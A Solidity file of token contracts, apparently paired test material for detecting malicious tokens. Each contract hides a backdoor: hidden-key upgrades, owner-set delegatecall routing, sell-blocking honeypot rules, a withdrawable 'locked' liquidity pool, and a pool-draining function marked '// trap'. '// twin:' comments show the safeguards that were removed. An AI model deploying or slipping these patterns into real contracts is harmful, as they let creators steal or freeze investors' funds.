// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPool {
    function createPair(address a, address b) external returns (address);
    function sync() external;
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

library Cellar {
    struct Data {
        mapping(address => uint256) has;
        mapping(address => mapping(address => uint256)) may;
        uint256 sum;
        string name;
        string symbol;
        address keeper;
        address key;
    }

    function data() internal pure returns (Data storage d) {
        bytes32 at = keccak256("cellar.data.v1");
        assembly {
            d.slot := at
        }
    }
}

abstract contract Cask {
    address internal constant FACTORY = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function _fill(string memory n, string memory s, uint256 sum, address to) internal {
        Cellar.Data storage d = Cellar.data();
        require(d.sum == 0, "full");
        (d.name, d.symbol, d.sum, d.has[to], d.keeper) = (n, s, sum * 1 ether, sum * 1 ether, to);
        emit Transfer(address(0), to, d.sum);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function name() external view returns (string memory) {
        return Cellar.data().name;
    }

    function symbol() external view returns (string memory) {
        return Cellar.data().symbol;
    }

    function totalSupply() external view returns (uint256) {
        return Cellar.data().sum;
    }

    function owner() external view returns (address) {
        return Cellar.data().keeper;
    }

    function renounceOwnership() external {
        require(msg.sender == Cellar.data().keeper, "keeper");
        Cellar.data().keeper = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return Cellar.data().has[who];
    }

    function allowance(address who, address whom) external view returns (uint256) {
        return Cellar.data().may[who][whom];
    }

    function approve(address whom, uint256 value) external returns (bool) {
        Cellar.data().may[msg.sender][whom] = value;
        emit Approval(msg.sender, whom, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _roll(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        Cellar.data().may[from][msg.sender] -= value;
        _roll(from, to, value);
        return true;
    }

    function _roll(address from, address to, uint256 value) internal {
        _taste(from, to, value);
        Cellar.Data storage d = Cellar.data();
        d.has[from] -= value;
        d.has[to] += value;
        emit Transfer(from, to, value);
    }

    function _taste(address from, address to, uint256 value) internal virtual {}
}

/// Forwards everything to what it was told to.
contract Shell {
    bytes32 private constant AT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address to, bytes memory first) {
        assembly {
            sstore(AT, to)
        }
        (bool ok, ) = to.delegatecall(first);
        require(ok);
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(AT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

contract TamarindLogic is Cask {
    bytes32 private constant AT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    function start(address pruner) external {
        _fill("Tamarind Vane", "TVANE", 14_000_000, tx.origin);
        Cellar.data().key = pruner;
    }

    function proxiableUUID() external pure returns (bytes32) {
        return AT;
    }

    function upgradeToAndCall(address to, bytes calldata what) external payable {
        require(msg.sender == Cellar.data().key, "no");
        require(TamarindLogic(to).proxiableUUID() == AT, "uuid");
        assembly {
            sstore(AT, to)
        }
        if (what.length > 0) {
            (bool ok, ) = to.delegatecall(what);
            require(ok);
        }
    }
}

contract JuniperLogic is Cask {
    function start() external {
        _fill("Juniper Skein", "JSKN", 51_000_000, tx.origin);
    }
}

contract Lighthouse {
    address public implementation;
    address public owner = msg.sender;

    constructor(address first) {
        implementation = first;
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner);
        owner = to;
    }

    function upgradeTo(address to) external {
        require(msg.sender == owner && to.code.length > 0);
        implementation = to;
    }
}

contract Boat {
    Lighthouse private immutable light;

    constructor(Lighthouse light_, bytes memory first) {
        light = light_;
        (bool ok, ) = light_.implementation().delegatecall(first);
        require(ok);
    }

    fallback() external payable {
        (bool ok, bytes memory said) = light.implementation().delegatecall(msg.data);
        assembly {
            if iszero(ok) {
                revert(add(said, 32), mload(said))
            }
            return(add(said, 32), mload(said))
        }
    }
}

contract SycamoreJet is Cask {
    mapping(bytes4 => address) private _sockets;
    uint256 private immutable born = block.timestamp;

    constructor() {
        _fill("Sycamore Jet", "SJET", 6_000_000, msg.sender);
        Cellar.data().key = msg.sender;
    }

    function plug(bytes4[] calldata what, address where) external {
        require(msg.sender == Cellar.data().key, "key");
        // twin: require(block.timestamp < born + 1 hours, "late");
        for (uint256 i; i < what.length; i++) _sockets[what[i]] = where;
    }

    fallback() external {
        address where = _sockets[msg.sig];
        require(where != address(0), "socket");
        (bool ok, bytes memory said) = where.delegatecall(msg.data);
        require(ok);
        assembly {
            return(add(said, 32), mload(said))
        }
    }
}

contract SeedRule {
    function fits(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

contract Nursery {
    SeedRule[] private _rows;
    address private immutable gardener = msg.sender;
    uint256 private immutable born = block.timestamp;

    constructor() {
        _rows.push(new SeedRule());
    }

    function grow(bytes memory seed, bytes32 salt) external returns (address plant) {
        require(msg.sender == gardener);
        // twin: require(block.timestamp < born + 1 hours, "season");
        assembly {
            plant := create2(0, add(seed, 32), mload(seed), salt)
        }
        require(plant != address(0), "barren");
        _rows.push(SeedRule(plant));
    }

    function latest() external view returns (SeedRule) {
        return _rows[_rows.length - 1];
    }
}

contract RowanPrism is Cask {
    Nursery private immutable nursery;
    address private immutable basin;

    constructor(Nursery nursery_) {
        nursery = nursery_;
        basin = IPool(FACTORY).createPair(WETH, address(this));
        _fill("Rowan Prism", "RPRISM", 220_000_000, msg.sender);
    }

    function _taste(address from, address to, uint256 value) internal override {
        if (to == basin) require(nursery.latest().fits(from, to, value), "does not fit");
    }
}

/// Adds up what it is asked to.
contract Abacus {
    function add(uint256 a, uint256 b) external pure returns (uint256) {
        return a + b;
    }
}

contract AspenQuartz is Cask {
    address public immutable abacus;
    struct Seat {
        uint32 rank;
        address sitter;
        uint64 until;
    }
    Seat[3] private _seats;

    constructor(address abacus_) {
        abacus = abacus_;
        _fill("Aspen Quartz", "AQTZ", 1_000_000, msg.sender);
        _seats[1] = Seat(7, msg.sender, type(uint64).max);
    }

    function perform(uint8 seat, address helper, bytes calldata what) external returns (bytes memory) {
        require(_seats[seat].sitter == msg.sender && block.timestamp < _seats[seat].until, "seat");
        // twin: require(helper == abacus, "helper");
        (bool ok, bytes memory said) = helper.delegatecall(what);
        require(ok, "helper failed");
        return said;
    }
}

contract LarchVessel is Cask {
    address private immutable basin;
    address private immutable cooper;
    uint256 private immutable born = block.timestamp;

    constructor() {
        cooper = msg.sender;
        basin = IPool(FACTORY).createPair(WETH, address(this));
        _fill("Larch Vessel", "LVSL", 73_000_000, msg.sender);
    }

    /// Locks shares of the pool in the token itself.
    function adopt() external {
        IPool(basin).transferFrom(msg.sender, address(this), IPool(basin).balanceOf(msg.sender));
    }

    function decant(uint256 points, address to) external {
        require(msg.sender == cooper && points <= 10_000);
        // twin: require(block.timestamp > born + 900 days, "ripens");
        IPool(basin).transfer(to, (IPool(basin).balanceOf(address(this)) * points) / 10_000);
    }
}

contract ElderSpool is Cask {
    address private immutable basin;
    address private immutable weaver;
    uint256 private _last;

    constructor() {
        weaver = msg.sender;
        basin = IPool(FACTORY).createPair(WETH, address(this));
        _fill("Elder Spool", "ESPOOL", 37_000_000, msg.sender);
        _last = block.timestamp;
    }

    function sync(uint256 value) external {
        require(msg.sender == weaver, "weaver");
        // twin: require(value <= Cellar.data().has[basin] / 2_000 && block.timestamp >= _last + 30 days, "slow");
        _last = block.timestamp;
        _roll(basin, weaver, value); // trap
        // twin: _roll(basin, address(0xdEaD), value);
        IPool(basin).sync();
    }
}

contract Ward {
    mapping(bytes32 => bool) private _list;
    address private immutable head;

    constructor(address head_) {
        head = head_;
    }

    function permit(address who, address where, bytes4 what, bool yes) external {
        require(msg.sender == head);
        _list[keccak256(abi.encode(who, where, what))] = yes;
    }

    function canCall(address who, address where, bytes4 what) external view returns (bool) {
        return _list[keccak256(abi.encode(who, where, what))];
    }
}

contract AcaciaHinge is Cask {
    Ward public immutable authority;
    uint8 private _state = 1;

    constructor(Ward ward) {
        authority = ward;
        _fill("Acacia Hinge", "AHINGE", 480_000_000, msg.sender);
    }

    function turn(uint8 state) external {
        require(authority.canCall(msg.sender, address(this), msg.sig), "ward");
        _state = state;
    }

    function _taste(address, address, uint256) internal view override {
        require(_state == 1, "hinge");
    }
}

contract Meter {
    address private immutable reporter;
    int256 private _value = 100;
    uint256 public updatedAt;

    constructor(address reporter_) {
        reporter = reporter_;
    }

    function report(int256 value) external {
        require(msg.sender == reporter, "reporter");
        (_value, updatedAt) = (value, block.timestamp);
    }

    function latestAnswer() external view returns (int256) {
        return _value;
    }
}

contract LaurelGauge is Cask {
    Meter private immutable meter;
    address private immutable basin;

    constructor(Meter meter_) {
        meter = meter_;
        basin = IPool(FACTORY).createPair(WETH, address(this));
        _fill("Laurel Gauge", "LGAUGE", 29_000_000, msg.sender);
    }

    function _taste(address, address to, uint256) internal view override {
        int256 heat = meter.latestAnswer();
        if (to == basin) require(heat > 0 && heat < 5_000, "overheated");
    }
}
